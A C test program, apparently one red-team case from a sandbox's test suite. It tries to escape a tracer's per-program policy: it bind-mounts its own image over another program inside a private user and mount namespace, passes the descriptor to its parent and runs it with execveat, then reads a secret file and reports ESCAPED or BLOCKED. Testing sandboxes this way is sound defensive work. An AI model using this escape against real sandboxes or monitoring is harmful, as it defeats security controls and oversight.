/* exec_fdview.c: an exec by descriptor whose name is another mount namespace's (red team 25).
 *
 * A descriptor's name (/proc/PID/fd/N) is the path of its file in the mount it was opened
 * through -- in the opener's mount namespace.  A child of the tree takes a user and mount
 * namespace of its own, binds IMAGE (the tree's code) over PROGRAM (a program with a table of
 * its own), opens PROGRAM there -- the tree's file, under the program's name -- and passes the
 * descriptor to its parent, which is in the tracer's view (its root and mounts), and which
 * execs it: execveat(fd, "", AT_EMPTY_PATH).
 *
 *   exec_fdview run IMAGE PROGRAM   as above
 *   exec_fdview payload             (as IMAGE) reads secd/secret.txt: ESCAPED when it got it
 */
#include "attack.h"

#include <sched.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>

static int payload(void) {
    int fd = open("secd/secret.txt", O_RDONLY);
    if (fd < 0) blocked("the tree's image ran; open(secd/secret.txt): %s", ename(errno));
    if (is_secret_fd(fd)) escaped("the tree's image read the secret with the program's table");
    blocked("the tree's image opened another file");
    return 0;
}

static void send_fd(int sock, int fd) {
    char byte = 'F';
    struct iovec iov = {&byte, 1};
    union { struct cmsghdr h; char buf[CMSG_SPACE(sizeof(int))]; } u;
    memset(&u, 0, sizeof u);
    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf,
                         .msg_controllen = sizeof u.buf};
    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(c), &fd, sizeof fd);
    if (sendmsg(sock, &msg, 0) < 0) printf("note: sendmsg: %s\n", ename(errno));
}

static int recv_fd(int sock) {
    char byte;
    struct iovec iov = {&byte, 1};
    union { struct cmsghdr h; char buf[CMSG_SPACE(sizeof(int))]; } u;
    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf,
                         .msg_controllen = sizeof u.buf};
    if (recvmsg(sock, &msg, 0) <= 0) return -1;
    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
    if (c == NULL || c->cmsg_type != SCM_RIGHTS) return -1;
    int fd;
    memcpy(&fd, CMSG_DATA(c), sizeof fd);
    return fd;
}

static void child(int sock, const char *image, const char *program) {
    uid_t uid = getuid();
    gid_t gid = getgid();
    char map[64];
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) {
        printf("note: unshare: %s\n", ename(errno));
        _exit(1);
    }
    write_file("/proc/self/setgroups", "deny");
    snprintf(map, sizeof map, "0 %u 1", (unsigned)uid);
    write_file("/proc/self/uid_map", map);
    snprintf(map, sizeof map, "0 %u 1", (unsigned)gid);
    write_file("/proc/self/gid_map", map);
    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0
        || mount(image, program, NULL, MS_BIND, NULL) < 0) {
        printf("note: bind the image over the program: %s\n", ename(errno));
        _exit(1);
    }
    int fd = open(program, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        printf("note: open %s: %s\n", program, ename(errno));
        _exit(1);
    }
    send_fd(sock, fd);
    char c;
    while (read(sock, &c, 1) > 0) {}  /* alive (its mounts with it) until the parent's exec */
    _exit(0);
}

static int run(const char *image, const char *program) {
    int sv[2];
    if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) < 0)
        skipped("socketpair: %s", ename(errno));
    pid_t pid = fork();
    if (pid < 0) skipped("fork: %s", ename(errno));
    if (pid == 0) {
        close(sv[0]);
        child(sv[1], image, program);
    }
    close(sv[1]);
    int fd = recv_fd(sv[0]);
    if (fd < 0) {
        waitpid(pid, NULL, 0);
        skipped("no descriptor from a mount namespace of the tree's own");
    }
    char link[64], name[4096];
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(link, name, sizeof name - 1);
    name[n > 0 ? n : 0] = 0;
    note("the descriptor's name here: %s", name);
    char *argv[] = {(char *)program, "payload", NULL};
    extern char **environ;
    syscall(SYS_execveat, fd, "", argv, environ, AT_EMPTY_PATH);
    blocked("execveat of the descriptor: %s", ename(errno));
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc == 2 && strcmp(argv[1], "payload") == 0) return payload();
    if (argc == 4 && strcmp(argv[1], "run") == 0) return run(argv[2], argv[3]);
    fprintf(stderr, "usage: exec_fdview run IMAGE PROGRAM | payload\n");
    return 2;
}
